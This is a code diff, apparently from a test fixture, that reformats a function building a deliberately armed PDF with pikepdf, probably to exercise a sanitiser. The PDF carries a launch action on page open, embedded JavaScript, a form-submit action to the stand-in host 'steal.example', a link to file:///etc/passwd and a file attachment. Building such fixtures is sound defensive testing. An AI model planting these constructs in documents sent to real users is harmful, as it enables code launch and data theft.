@@ -48,12 +48,19 @@ def armed() -> bytes:
     file.Root.Names.JavaScript = table(Names=[pikepdf.String("x"), named])
     page = file.pages[0].obj
     page.AA = table(O=launch)
-    page.Annots = pikepdf.Array([
-        table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch),
-        table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=table(S=name.SubmitForm, F="https://steal.example")),
-        table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=table(S=name.URI, URI="file:///etc/passwd")),
-        table(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9], Contents="pinned-file"),
-    ])
+    page.Annots = pikepdf.Array(
+        [
+            table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch),
+            table(
+                Type=name.Annot,
+                Subtype=name.Link,
+                Rect=[0, 0, 9, 9],
+                A=table(S=name.SubmitForm, F="https://steal.example"),
+            ),
+            table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=table(S=name.URI, URI="file:///etc/passwd")),
+            table(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9], Contents="pinned-file"),
+        ]
+    )
     with file.open_metadata() as properties:
         properties["dc:creator"] = [AUTHOR]
     return saved(file)
